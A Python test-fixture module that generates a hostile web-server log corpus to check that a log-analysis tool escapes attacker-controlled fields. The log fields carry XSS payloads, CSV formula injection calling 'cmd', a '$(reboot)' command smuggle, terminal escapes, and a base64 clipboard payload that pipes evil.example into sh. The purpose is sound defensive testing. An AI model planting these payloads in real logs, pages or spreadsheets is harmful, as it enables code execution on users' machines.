"""A hostile corpus, generated (never committed): what an attacker can put in the logs of the server it floods.

A small simulated Mirai flood (``simulate mirai``) carries the attack; into it go requests whose user agents,
paths, referers and X-Forwarded-For headers hold terminal escape sequences, markup, Markdown links, spreadsheet
formulas and comment breakouts, sent often enough to reach the report's top sources, targets and samples;
between them, lines no format reads (binary junk, NUL bytes, invalid UTF-8, 5 MB lines, 100 KB URLs, inputs
crafted against backtracking regexes, 10,000 lines of 10,000 different random shapes). Beside it: a second
server's log in another format with forged X-Forwarded-For, and compressed rotations cut short by a full disk.

Every file's line count is computed here from the bytes written (for a damaged archive: from what a one-shot
decompression of the damaged bytes yields), independently of floodwitness, so a test can check that
``read = parsed + rejected`` adds up to the lines that really are there.

Used by tests/test_hostile.py and benchmarks/hostile.py.
"""

from __future__ import annotations

import bz2
import contextlib
import csv
import gzip
import io
import json
import random
import re
import zlib
from dataclasses import dataclass, field
from datetime import datetime
from html.parser import HTMLParser
from typing import TYPE_CHECKING

import pyarrow as pa
import pyarrow.compute as pc
import zstandard

from floodwitness.errors import FloodwitnessError
from floodwitness.formats import FORMATS
from floodwitness.formats.detect import detect
from floodwitness.formats.json_format import NginxJsonFormat
from floodwitness.ingest.pipeline import LINES_TABLE, parse_sql
from floodwitness.inputs.lines import LINE_SCHEMA, FileAccount, LineBatcher
from floodwitness.simulate import simulate

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from floodwitness.engine import Engine
    from floodwitness.formats.base import LogFormat

ESC = "\x1b"
#: Attacker-chosen field values, as they should appear once parsed (the log writes a quote as \").
HOSTILE_AGENTS: tuple[str, ...] = (
    f"{ESC}[2J{ESC}[H{ESC}[31mYOUR SERVER IS FINE{ESC}[0m",  # clear screen, cursor home, colour
    f"{ESC}]8;;http://evil.example/{ESC}\\click for the report{ESC}]8;;{ESC}\\",  # OSC 8 hyperlink
    f"{ESC}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g={ESC}\\",  # OSC 52: write the clipboard
    "\x07\x07\x07bell \x08\x08backspace \x7fdel",
    "\u009b31m C1 CSI \u0085 NEL \u009d1;title\u009c \u0090DCS\u009c",  # C1 controls
    "\u202egnp.exe \u2066isolate\u2069 \u202aembed\u202c",  # bidi overrides
    "<script>window.__pwned=1</script>",
    '"><img src=x onerror=window.__pwned=2>',
    "' onmouseover='window.__pwned=5' x='",
    "[click me](http://evil.example/) ![x](http://evil.example/x.png) <b>bold</b> www.evil.example",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=HYPERLINK(\"http://evil.example\",\"x\")",
    "x\r# injected\rdeny all; } ` $(reboot) \\n */ -->",
)
HOSTILE_PATHS: tuple[str, ...] = (
    "/</script><script>window.__pwned=3</script>",
    "/<svg/onload=window.__pwned=4>",
    f"/{ESC}[2J{ESC}]0;pwned{ESC}\\",
    "/=cmd|' /C calc'!A0",
    "/[x](http://evil.example/)",
    "/\u202eexe.txt",
)
HOSTILE_REFERERS: tuple[str, ...] = (
    "javascript:window.__pwned=6",
    f"http://evil.example/{ESC}[8m",
    "@SUM(1+1)",
)
#: Markers that must never appear outside an escaped or quoted place in any output.
MARKERS: tuple[str, ...] = ("window.__pwned", "evil.example", "cmd|")
#: What a terminal must never receive from floodwitness: C0 controls but newline, DEL, C1, bidi controls.
TERMINAL_UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
#: What makes a spreadsheet read a CSV cell as a formula.
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
#: Requests per hostile client: enough to put them among the top sources of a scale-0.3 flood.
PER_CLIENT = 900
HOSTILE_NET = "185.220.101."
NONSENSE_LINES = 10_000
BIG_LINE = 5_000_000

_TS = re.compile(rb"\[(\d\d/\w\w\w/\d{4}:\d\d:\d\d:\d\d [+-]\d{4})\]")


@dataclass
class Corpus:
    """The files written, what each holds, and what a reader must find in them."""

    folder: Path
    seed: int
    logs: list[Path] = field(default_factory=list)  # analysed together
    lines: dict[str, int] = field(default_factory=dict)  # path -> lines there, counted here
    damaged: dict[str, int] = field(default_factory=dict)  # path -> size of the damaged archive
    hostile_clients: list[str] = field(default_factory=list)
    innocent_ip: str = ""  # a real baseline client, named in forged X-Forwarded-For headers
    junk: Path | None = None  # random bytes: no format fits
    nonsense: Path | None = None  # 10,000 lines, 10,000 shapes
    long_line_count: int = 0  # lines longer than the default --max-line-bytes in access.log

    @property
    def total_lines(self) -> int:
        return sum(self.lines[str(p)] for p in self.logs)


def count_lines(data: bytes) -> int:
    """Lines in ``data`` as a reader sees them: newline-terminated, plus a last one without its newline."""
    return data.count(b"\n") + (1 if data and not data.endswith(b"\n") else 0)


def _stamps(lines: list[bytes], begin: datetime) -> tuple[int, list[bytes]]:
    """Index of the first line at or after ``begin`` and the timestamps of the lines after it."""
    at = next(i for i, line in enumerate(lines)
              if (m := _TS.search(line)) and datetime.strptime(m.group(1).decode(), "%d/%b/%Y:%H:%M:%S %z") >= begin)
    stamps = [m.group(1) for line in lines[at:at + 4000] if (m := _TS.search(line))]
    return at, stamps


def _logged(text: str) -> bytes:
    """A field as a server writes it inside quotes: backslash and quote escaped, every other byte as is."""
    return text.replace("\\", "\\\\").replace('"', '\\"').encode("utf-8")


def hostile_requests(stamps: list[bytes], rng: random.Random) -> tuple[list[bytes], list[str]]:
    """PER_CLIENT requests from each hostile client, one hostile user agent each, inside the incident."""
    out, clients = [], []
    for index, agent in enumerate(HOSTILE_AGENTS):
        ip = f"{HOSTILE_NET}{10 + index}"
        clients.append(ip)
        for n in range(PER_CLIENT):
            path = HOSTILE_PATHS[(index + n) % len(HOSTILE_PATHS)]
            referer = HOSTILE_REFERERS[n % len(HOSTILE_REFERERS)] if n % 4 == 0 else "-"
            stamp = stamps[(n * 7 + index) % len(stamps)]
            out.append(ip.encode() + b" - - [" + stamp + b'] "GET ' + _logged(path) + b' HTTP/1.1" 200 512 "'
                       + _logged(referer) + b'" "' + _logged(agent) + b'" 0.010 -\n')
    rng.shuffle(out)
    return out, clients


def nonsense_lines(rng: random.Random, count: int = NONSENSE_LINES) -> list[bytes]:
    """``count`` lines, each of a different random shape (a sequence of token kinds and separators)."""
    kinds = tuple(_TOKENS)
    seps = (" ", "\t", " | ", ",", ";", "  ", "", " - ")
    seen: set[tuple[tuple[str, str], ...]] = set()
    out: list[bytes] = []
    while len(out) < count:
        shape = tuple((rng.choice(kinds), rng.choice(seps)) for _ in range(rng.randint(1, 14)))
        if shape in seen:
            continue
        seen.add(shape)
        out.append("".join(_TOKENS[kind](rng) + sep for kind, sep in shape).encode() + b"\n")
    return out


def _word(rng: random.Random, low: int = 1, high: int = 12) -> str:
    return "".join(rng.choices("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ", k=rng.randint(low, high)))


_TOKENS: dict[str, Callable[[random.Random], str]] = {
    "ip": lambda r: ".".join(str(r.randint(0, 300)) for _ in range(4)),
    "int": lambda r: str(r.randint(-10**6, 10**12)),
    "float": lambda r: f"{r.uniform(-1e3, 1e3):.{r.randint(0, 6)}f}",
    "word": _word,
    "date": lambda r: f"[{r.randint(0, 40):02d}/{_word(r, 3, 3)}/{r.randint(0, 9999)}:{r.randint(0, 99)}:00:00 +0000]",
    "iso": lambda r: f"{r.randint(1900, 2100)}-{r.randint(0, 13):02d}-{r.randint(0, 32):02d}T12:00:00Z",
    "quoted": lambda r: '"' + _word(r) + " " * r.randint(0, 3) + '\\"' * r.randint(0, 2) + '"',
    "bracket": lambda r: "[" + _word(r) + "]",
    "kv": lambda r: f"{_word(r)}={r.randint(0, 999)}",
    "json": lambda r: '{"' + _word(r) + '":' + r.choice(('"x"', "1", "null", "[1,2", '{"a":')) + "}",
    "hex": lambda r: "".join(r.choices("0123456789abcdef", k=r.randint(1, 40))),
    "punct": lambda r: "".join(r.choices("!#$%&()*+/:<=>?@[]^_`{|}~\\", k=r.randint(1, 8))),
    "url": lambda r: f"http://{_word(r)}.example/{_word(r)}?{_word(r)}={_word(r)}",
    "ws": lambda r: " " * r.randint(1, 40),
    "quote": lambda r: '"' * r.randint(1, 9),
}


def junk_lines(rng: random.Random) -> tuple[list[bytes], int]:
    """Lines no format reads, and how many of them are longer than the default 64 KB cap."""
    out: list[bytes] = []
    for _ in range(300):  # binary junk (NUL and invalid UTF-8 included), no newline inside
        out.append(rng.randbytes(rng.randint(1, 400)).replace(b"\n", b"") + b"\n")
    out += [b"\x00" * 512 + b"\n", b"\x00\x00 GET / HTTP/1.1\x00\n"]
    out.append(b'1.2.3.4 - - [21/Aug/2026:13:45:02 +0200] "GET /\xff\xfe\xc0\xaf HTTP/1.1" 200 1 "-" "\xed\xa0\x80" 0.1 -\n')
    # crafted against backtracking: long runs of spaces, quotes, backslashes, unbalanced quoted fields
    for size in (10, 100, 1000, 5000):
        out += [b" " * size + b"\n", b'"' * size + b"\n", b"\\" * size + b"\n", b'a "' * size + b"\n",
                b'1.2.3.4 - - [21/Aug/2026:13:45:02 +0200] "' + b'\\"' * size + b"\n",
                b"1.2.3.4 " * size + b"[\n", b'1.2.3.4 - - [x] "GET / HTTP/1.1" 200 1 ' + b'"a" ' * size + b'"\n',
                b'{"remote_addr":"' + b'\\\\' * size + b"\n"]
    big = [b"A" * BIG_LINE + b"\n",
           b'1.2.3.4 - - [21/Aug/2026:13:45:02 +0200] "GET / HTTP/1.1" 200 1 "-" "' + b"B" * BIG_LINE + b'" 0.1 -\n',
           b'1.2.3.4 - - [21/Aug/2026:13:45:02 +0200] "GET /' + b"u" * 100_000 + b' HTTP/1.1" 200 1 "-" "x" 0.1 -\n']
    out += big
    longs = sum(len(line) - 1 > 64 * 1024 for line in out)
    out.append(b"lone carriage returns\rinside\ra line\r\n")
    return out, longs


def _truncate(data: bytes, codec: str) -> tuple[bytes, bytes]:
    """``data`` compressed then cut at two thirds: the damaged bytes and what a one-shot decompression of
    them recovers (the reference the streaming reader is held to)."""
    if codec == "gz":
        blob = gzip.compress(data, compresslevel=6, mtime=0)
        cut = blob[: len(blob) * 2 // 3]
        return cut, zlib.decompressobj(wbits=31).decompress(cut)
    if codec == "bz2":
        blob = bz2.compress(data, compresslevel=1)  # 100 kB blocks: several whole blocks before the cut
        cut = blob[: len(blob) * 2 // 3]
        return cut, bz2.BZ2Decompressor().decompress(cut)
    blob = zstandard.ZstdCompressor(level=3).compress(data)
    cut = blob[: len(blob) * 2 // 3]
    return cut, zstandard.ZstdDecompressor().decompressobj().decompress(cut)


def parse_check(engine: Engine, data: bytes, *, block: int, cap: int, fallback: str, detect_format: bool = True) -> None:
    """The line parser on ``data`` (read in ``block``-byte blocks, lines capped at ``cap`` bytes): detection on the
    clean lines, then the engine's parse of the batch with the detected format, or ``fallback`` when none fits.
    Raises on a crash or a broken invariant: one output row per line read, numbered 1..n. The fuzz target of
    benchmarks/fuzz.py and of a property test."""
    account = FileAccount(file_id=0, path="<fuzz>")
    batcher = LineBatcher(account, max_line_bytes=cap, batch_bytes=1 << 16)
    batches = list(batcher.batches(iter([data[i:i + block] for i in range(0, len(data), block)])))
    expected = count_lines(data)
    assert account.lines_read == expected, (account.lines_read, expected)
    if not batches:
        return
    table = pa.Table.from_batches(batches, schema=LINE_SCHEMA)
    clean = [text.rstrip("\r\n") for text, reason in zip(table.column("text").to_pylist(),
                                                         table.column("pre_reject").to_pylist(), strict=True)
             if reason is None]
    fmt: LogFormat = FORMATS[fallback]
    if detect_format:
        with contextlib.suppress(FloodwitnessError):
            fmt = detect(clean).format
    if isinstance(fmt, NginxJsonFormat):
        fmt = fmt.bind(clean)
    engine.register_table(LINES_TABLE, table)
    try:
        out = engine.sql_to_arrow(parse_sql(fmt))
    finally:
        engine.unregister(LINES_TABLE)
    assert sorted(out.column("line").to_pylist()) == list(range(1, expected + 1))
    parsed = out.filter(pc.is_null(out.column("reject_reason")))
    assert parsed.column("client_ip").null_count == 0  # a parsed row has its client


def build(folder: Path, *, seed: int = 5, scale: float = 0.3, hours: float = 1.0) -> Corpus:
    """Write the corpus into ``folder``."""
    rng = random.Random(seed)
    sim = folder / "sim"
    truth = simulate("mirai", sim, seed=seed, scale=scale, hours=hours)
    lines = (sim / "access.log").read_bytes().splitlines(keepends=True)
    corpus = Corpus(folder=folder, seed=seed, innocent_ip=truth.known_clients[0])
    at, stamps = _stamps(lines, truth.incidents[0].start)

    # The first minutes of the baseline go to three compressed rotations that a full disk cut short.
    early, rest = lines[:at // 3], lines[at // 3:]
    third = len(early) // 3
    for index, codec in enumerate(("gz", "zst", "bz2")):
        path = folder / f"early-{index + 1}.log.{codec}"
        damaged, recovered = _truncate(b"".join(early[index * third:(index + 1) * third]), codec)
        path.write_bytes(damaged)
        corpus.logs.append(path)
        corpus.lines[str(path)] = count_lines(recovered)
        corpus.damaged[str(path)] = len(damaged)

    # The live log: the flood, the hostile clients inside it, and junk spread through the incident.
    hostile, corpus.hostile_clients = hostile_requests(stamps, rng)
    junk, corpus.long_line_count = junk_lines(rng)
    mixed = hostile + junk + nonsense_lines(rng)
    start = at - at // 3
    body = rest[:start] + _interleave(rest[start:], mixed, rng)
    access = folder / "access.log"
    data = b"".join(body)
    access.write_bytes(data)
    corpus.logs.append(access)
    corpus.lines[str(access)] = count_lines(data)

    # A second server behind a proxy: nginx `main` format, X-Forwarded-For naming an innocent client.
    edge = folder / "edge.log"
    forged = [f"{corpus.innocent_ip}", f"{corpus.innocent_ip}, 127.0.0.1", "<script>window.__pwned=7</script>",
              f"{ESC}[2J, 10.0.0.1", "=cmd|' /C calc'!A0"]
    rows = []
    for n in range(600):
        ip = corpus.hostile_clients[n % len(corpus.hostile_clients)].encode()
        rows.append(ip + b" - - [" + stamps[n % len(stamps)] + b'] "GET /login HTTP/1.1" 401 120 "-" "'
                    + _logged(HOSTILE_AGENTS[n % len(HOSTILE_AGENTS)]) + b'" "' + _logged(forged[n % len(forged)])
                    + b'"\n')
    edge_data = b"".join(rows)[:-1]  # the last line without its newline: still a line
    edge.write_bytes(edge_data)
    corpus.logs.append(edge)
    corpus.lines[str(edge)] = count_lines(edge_data)

    # Named on their own, these fit no format: a clean error, or skipped when found in a folder.
    corpus.junk = folder / "junk.bin"
    corpus.junk.write_bytes(rng.randbytes(1 << 20))
    corpus.nonsense = folder / "nonsense.log"
    corpus.nonsense.write_bytes(b"".join(nonsense_lines(random.Random(seed + 1))))
    return corpus


def _interleave(base: list[bytes], extra: list[bytes], rng: random.Random) -> list[bytes]:
    """``extra`` spread at random places through ``base`` (both kept in their own order)."""
    slots = sorted(rng.randrange(len(base) + 1) for _ in extra)
    out: list[bytes] = []
    previous = 0
    for slot, line in zip(slots, extra, strict=True):
        out += base[previous:slot]
        out.append(line)
        previous = slot
    return out + base[previous:]


def export_structure(target: str, text: str) -> str:
    """``text`` without its comments (the only place report text may go): what a firewall or proxy executes."""
    if target in ("json", "crowdsec"):
        doc = json.loads(text)
        rules = doc if target == "crowdsec" else doc["rules"]
        return json.dumps([{k: v for k, v in r.items() if k not in ("reason", "comment")} for r in rules])
    if target == "csv":
        return "\n".join(",".join(row[:3] + row[4:-1]) for row in csv.reader(io.StringIO(text)))  # no reason, comment
    lines = []
    for line in text.splitlines():
        bare = re.sub(r'(--comment|comment) "[^"\n]*"', r"\1", line)
        lines.append(bare.split("#", 1)[0])
    return "\n".join(lines)


class HtmlPage(HTMLParser):
    """The elements of an HTML report: tags with attributes, text, and the bodies of its scripts."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self._in_script: dict[str, str | None] | None = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag == "script":
            self._in_script = dict(attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = None

    def handle_data(self, data: str) -> None:
        if self._in_script is not None:
            self.scripts.append((self._in_script, data))
        else:
            self.text.append(data)

    def problems(self) -> list[str]:
        """What a log field could have injected: more scripts than the report's own four, an image or SVG, an
        event handler or a javascript: URL, embedded JSON data that no longer parses."""
        names = [t for t, _ in self.tags]
        found = [f"{names.count('script')} script elements"] if names.count("script") != 4 else []
        found += [f"<{t}> element" for t in names if t in ("img", "svg", "iframe", "object", "embed")]
        found += [f"{a}= on <{t}>" for t, attrs in self.tags for a in attrs if a.startswith("on")]
        found += [f"attribute {v!r}" for _, attrs in self.tags for v in attrs.values()
                  if v and ("pwned" in v or "javascript:" in v.lower())]
        for attrs, body in self.scripts:
            if attrs.get("type") == "application/json":
                try:
                    json.loads(body)
                except ValueError:
                    found.append("embedded JSON broken")
        return found
